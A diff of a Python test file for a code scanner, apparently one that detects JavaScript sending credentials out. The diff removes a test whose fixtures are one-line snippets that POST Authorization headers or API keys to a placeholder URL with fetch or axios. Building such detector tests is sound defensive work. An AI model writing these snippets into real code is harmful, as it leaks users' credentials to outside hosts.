@@ -88,21 +88,3 @@ def test_a_function_tells_by_its_name_that_it_is_given_a_key(source: str) -> Non
 )
 def test_other_parameters_are_no_keys(source: str) -> None:
     assert [] == named(source, "wallet-key-sent")
-
-
-@pytest.mark.parametrize(
-    ("source", "times"),
-    [
-        (f"exports.f = h => fetch({URL}, {{method: 'POST', body: JSON.stringify({{a: h.authorization}})}});", 1),
-        (f"exports.f = r => fetch({URL}, {{method: 'POST', body: r.headers.get('Authorization')}});", 1),
-        (f"exports.f = r => {{ const a = r.headers['x-api-key']; axios.post({URL}, {{a}}); }};", 1),
-        (f"exports.f = h => fetch({URL}, {{headers: {{authorization: h.authorization}}}});", 0),
-        (f"exports.f = h => fetch({URL}, {{method: 'POST', body: h.authorization.split(' ')[1]}});", 0),
-        (f"exports.f = h => fetch({URL}, {{method: 'POST', body: h.authorization.replace('Bearer ', '')}});", 0),
-        ("exports.f = (h, url) => fetch(url, {method: 'POST', body: h.authorization});", 0),
-        (f"exports.f = r => fetch(new Request({URL}, {{headers: {{a: r.headers.authorization}}}}));", 0),
-    ],
-    ids=["in a body", "asked for", "by a variable", "as a header", "its token", "its token again", "its user's", "a request"],
-)  # fmt: skip
-def test_a_header_that_says_who_asks(source: str, times: int) -> None:
-    assert times == len(named(source, "credential-header-sent"))
